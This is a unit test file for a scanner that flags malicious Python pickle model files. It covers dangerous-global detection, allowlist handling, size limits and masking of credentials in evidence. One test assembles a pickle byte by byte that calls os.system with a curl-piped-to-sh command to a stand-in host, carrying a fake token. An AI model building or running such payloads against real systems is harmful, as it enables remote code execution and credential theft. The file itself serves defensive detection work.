import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { BufferSource } from '../../src/core/byte-source.js';
import { defaultConfig, parseConfig, type ResolvedConfig } from '../../src/core/config.js';
import type { Finding } from '../../src/core/finding.js';
import { scanSource } from '../../src/scanners/file-scan.js';
import { modelsScanner } from '../../src/scanners/models/index.js';
import { pickleRules } from '../../src/scanners/models/pickle/index.js';

const FIXTURES = 'test/.tmp/fixtures/pickle_unit';

interface Expectation {
  rule: string;
  evidence?: string;
  severity?: string;
  member?: string;
}
const manifest = JSON.parse(readFileSync(join(FIXTURES, 'manifest.json'), 'utf8')) as Record<string, { expect: Expectation[]; forbid: string[] }>;

async function scanBytes(data: Buffer, config: ResolvedConfig = defaultConfig(), name = 'model.pkl'): Promise<Finding[]> {
  return scanSource(name, new BufferSource(data), { scanners: [modelsScanner], config, knownRuleIds: new Set(pickleRules.map((r) => r.id)) });
}

function attack(name: string): Buffer {
  return readFileSync(join(FIXTURES, 'attack', `${name}.pkl`));
}

function describeFindings(findings: readonly Finding[]): string {
  return findings.map((f) => `${f.severity} ${f.ruleId} ${f.location.member ?? ''} ${f.evidence ?? f.message}`).join('\n');
}

describe('pickle rules: attack fixtures (positives)', () => {
  for (const [file, spec] of Object.entries(manifest)) {
    it(`${file}`, async () => {
      const findings = await scanBytes(readFileSync(join(FIXTURES, 'attack', file)));
      for (const want of spec.expect) {
        const match = findings.find(
          (f) =>
            f.ruleId === want.rule &&
            (want.severity === undefined || f.severity === want.severity) &&
            (want.evidence === undefined || (f.evidence ?? '').includes(want.evidence)) &&
            (want.member === undefined || (f.location.member ?? '').includes(want.member)),
        );
        assert.ok(match, `expected ${JSON.stringify(want)} in:\n${describeFindings(findings)}`);
      }
      for (const rule of spec.forbid) assert.ok(!findings.some((f) => f.ruleId === rule), `did not expect ${rule} in:\n${describeFindings(findings)}`);
      if (spec.expect.length === 0 && spec.forbid.length === 0) assert.deepEqual(findings, []);
    });
  }
});

describe('pickle rules: boundaries (negatives)', () => {
  it('a plain pickle of data reports nothing', async () => {
    assert.deepEqual(await scanBytes(readFileSync(join(FIXTURES, 'benign', 'containers-p4.pkl'))), []);
  });

  it('models.allow silences an unknown global, exactly or by module', async () => {
    const data = attack('unknown-class');
    assert.equal((await scanBytes(data)).filter((f) => f.ruleId === 'models/pickle-unknown-global').length, 1);
    for (const entry of ['mylib.models.Net', 'mylib.models.*', 'mylib.*']) {
      const config = parseConfig(`models:\n  allow: ['${entry}']\n`, 'test');
      assert.deepEqual(await scanBytes(data, config), [], entry);
    }
    const lookalike = parseConfig(`models:\n  allow: ['mylib.model.*', 'mylib.models.Ne']\n`, 'test');
    assert.equal((await scanBytes(data, lookalike)).length, 1);
  });

  it('models.allow never overrides a dangerous global', async () => {
    const config = parseConfig(`models:\n  allow: ['mylib.*', 'os.*', 'os.system']\n`, 'test');
    const sink = await scanBytes(attack('sink-name'), config);
    assert.ok(sink.some((f) => f.ruleId === 'models/pickle-dangerous-global' && f.severity === 'critical'));
    const os = await scanBytes(attack('inst-p0'), config);
    assert.ok(os.some((f) => f.ruleId === 'models/pickle-dangerous-global'));
  });

  it('a rule switched off in config reports nothing; a severity override applies', async () => {
    const off = parseConfig(`rules:\n  models/pickle-dangerous-global: off\n`, 'test');
    assert.deepEqual(await scanBytes(attack('inst-p0'), off), []);
    const low = parseConfig(`rules:\n  models/pickle-dangerous-global: low\n`, 'test');
    assert.equal((await scanBytes(attack('inst-p0'), low))[0]?.severity, 'low');
  });

  it('getattr resolved to a named attribute is not itself dangerous; unresolved getattr is', async () => {
    const resolved = await scanBytes(attack('getattr-resolved'));
    assert.ok(!resolved.some((f) => f.evidence?.includes('builtins.getattr')));
    // getattr referenced without being called with constant arguments.
    const bare = Buffer.from('\x80\x02cbuiltins\ngetattr\n.', 'latin1');
    const findings = await scanBytes(bare);
    assert.ok(findings.some((f) => f.ruleId === 'models/pickle-dangerous-global' && f.evidence === 'builtins.getattr'), describeFindings(findings));
  });

  it('functools.partial over an allowlisted callable is not dangerous; over a dangerous one it is', async () => {
    assert.deepEqual(await scanBytes(attack('partial-safe')), []);
    assert.ok((await scanBytes(attack('partial-dangerous'))).some((f) => f.evidence?.startsWith('functools.partial(os.system')));
  });

  it('a STACK_GLOBAL of memoised constant strings is not a computed import', async () => {
    const findings = await scanBytes(attack('memo-constant-operands'));
    assert.ok(!findings.some((f) => f.ruleId === 'models/pickle-computed-import'));
  });

  it('frames written by pickle itself are never a mismatch', async () => {
    for (const proto of [4, 5]) {
      const findings = await scanBytes(readFileSync(join(FIXTURES, 'benign', `big_dict-p${proto}.pkl`)));
      assert.deepEqual(findings, []);
    }
  });

  it('a truncated file reports the truncation once, at the break', async () => {
    const data = readFileSync(join(FIXTURES, 'benign', 'strings-p4.pkl'));
    const findings = await scanBytes(data.subarray(0, data.length - 3));
    assert.deepEqual(findings.map((f) => f.ruleId), ['models/pickle-malformed']);
  });
});

describe('evidence', () => {
  it('masks credentials carried by payload arguments', async () => {
    const token = ['ghp', '_', 'Fake0123456789abcdefghijABCDEFGHIJ0123'].join('');
    const cmd = Buffer.from(`curl -H 'Authorization: token ${token}' https://example.invalid/x.sh | sh`);
    const len = Buffer.alloc(4);
    len.writeUInt32LE(cmd.length);
    const data = Buffer.concat([Buffer.from('\x80\x02cos\nsystem\n(X', 'latin1'), len, cmd, Buffer.from('tR.', 'latin1')]);
    const findings = await scanBytes(data);
    const evidence = findings.find((f) => f.ruleId === 'models/pickle-dangerous-global')?.evidence ?? '';
    assert.ok(evidence.startsWith('os.system("curl -H'), evidence);
    assert.ok(!evidence.includes(token), evidence);
    assert.ok(evidence.includes('example.invalid'), evidence);
  });
});

describe('pickle-too-large', () => {
  it('reports the size and still analyses the prefix it can read', async () => {
    const data = Buffer.concat([attack('os-system-p2'), Buffer.alloc(200, 0x4e)]);
    const config = defaultConfig();
    config.limits.maxMemberBytes = 100;
    const findings = await scanBytes(data, config);
    assert.ok(findings.some((f) => f.ruleId === 'models/pickle-too-large' && f.severity === 'high'), describeFindings(findings));
    assert.ok(findings.some((f) => f.ruleId === 'models/pickle-dangerous-global'));
    assert.ok(!findings.some((f) => f.ruleId === 'models/pickle-malformed'));
  });

  it('is silent at exactly the limit', async () => {
    const data = attack('leftover-stack');
    const config = defaultConfig();
    config.limits.maxMemberBytes = data.length;
    assert.ok(!(await scanBytes(data, config)).some((f) => f.ruleId === 'models/pickle-too-large'));
  });
});

describe('pickle rule metadata', () => {
  it('every rule has a docs page, a models/pickle- id, tags and messages', () => {
    for (const rule of pickleRules) {
      assert.match(rule.id, /^models\/pickle-[a-z-]+$/);
      const page = `docs/rules/models/${rule.id.slice('models/'.length)}.md`;
      assert.ok(existsSync(page), `missing ${page}`);
      const text = readFileSync(page, 'utf8');
      assert.ok(text.includes(rule.id), `${page} does not name ${rule.id}`);
      assert.ok(rule.tags.includes('cwe:502'));
      assert.ok(Object.keys(rule.messages).length > 0);
    }
  });
});
